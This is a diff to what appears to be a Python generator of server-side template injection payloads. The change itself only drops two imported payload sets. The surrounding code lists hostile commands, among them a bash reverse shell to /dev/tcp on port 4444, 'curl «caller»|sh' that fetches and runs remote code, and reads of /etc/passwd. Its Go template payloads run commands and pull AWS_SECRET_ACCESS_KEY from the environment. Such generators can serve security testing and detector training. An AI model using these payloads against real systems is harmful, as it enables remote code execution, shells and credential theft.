@@ -5,8 +5,6 @@ import random
 from grammar import ANYWHERE, Generator, Grammar, Shape
 from surroundings import around
 from written.ssti import SSTI
-from written.ssti_further import SSTI_FURTHER
-from written.ssti_third import SSTI_THIRD
 
 COMMANDS = ("id", "whoami", "ls", "ls -la", "cat /etc/passwd", "uname -a", "sleep «1-20»", "curl http://«caller»/«t»", "ping -c 3 «caller»", "nslookup «caller»", "wget «caller»", "cat /flag", "env", "hostname", "calc.exe", "touch /tmp/«t»",
             "curl «caller»|sh", "cat app.py", "ls /", "dir", "type C:\\windows\\win.ini", "bash -c 'bash -i >& /dev/tcp/«ip»/4444 0>&1'", "echo «token»", "expr «n» + «n»", "ipconfig")
@@ -54,7 +52,7 @@ RULES = {
     "go": ("{{.System \"«cmd»\"}}", "{{ .Exec \"«cmd»\" }}", "{{define \"«x:t»\"}}alert(«a»){{end}}{{template \"«@x»\"}}", "{{ printf \"%s\" .«word» }}", "{{html \"«t»\"}}{{js \"«t»\"}}", "{{ .ReadFile \"/etc/passwd\" }}", "{{ call .«word» \"«cmd»\" }}", "{{env \"«PATH|HOME|AWS_SECRET_ACCESS_KEY»\"}}", "{{readFile \"/etc/passwd\"}}", "{{ include \"/etc/passwd\" }}", "{{ .Request.Header }}", "{{ file.Read(\"/etc/passwd\") }}"),
     "polyglot": ("${{<%[%'\"}}%\\.", "{{«a»*«a»}}${«a»*«a»}<%= «a»*«a» %>${{«a»*«a»}}#{«a»*«a»}*{«a»*«a»}", "<%={{={@{#{${«sum»}}%>", "{{«sum»}}{%«t»%}${«sum»}#{«sum»}", "'}}{{«sum»}}{{'", "\"+«a»*«a»+\"{{«sum»}}", "<th:t=\"${«sum»}#foreach", "{#«t»#}{{«sum»}}", "{{/*«t»*/«sum»}}", "${\"z\".join(\"ab\")}{{«sum»}}", "{{1/0}}", "${1/0}", "<%= 1/0 %>", "#{1/0}", "{{foobar}}${foobar}", "{{!«t»}}{{«sum»}}", "%{«a»*«a»}#{«a»*«a»}", "\\{{«sum»}}", "$!{«sum»}", "{$«t»|«system»:\"«cmd»\"}"),
 }
-GENERATOR = Generator(Grammar(RULES, {"written": (*SSTI, *SSTI_FURTHER, *SSTI_THIRD)}), [
+GENERATOR = Generator(Grammar(RULES, {"written": SSTI}), [
     Shape(26, "braces", ANYWHERE), Shape(12, "walk", ANYWHERE), Shape(8, "settings", ANYWHERE), Shape(6, "twig", ANYWHERE), Shape(5, "smarty", ANYWHERE), Shape(6, "freemarker", ANYWHERE), Shape(5, "velocity", ANYWHERE), Shape(9, "java", ANYWHERE),
     Shape(7, "erb", ANYWHERE), Shape(5, "mako", ANYWHERE), Shape(6, "node", ANYWHERE), Shape(3, "razor", ANYWHERE), Shape(3, "go", ANYWHERE), Shape(5, "polyglot", ANYWHERE), Shape(66, "written", ANYWHERE),
 ], around)
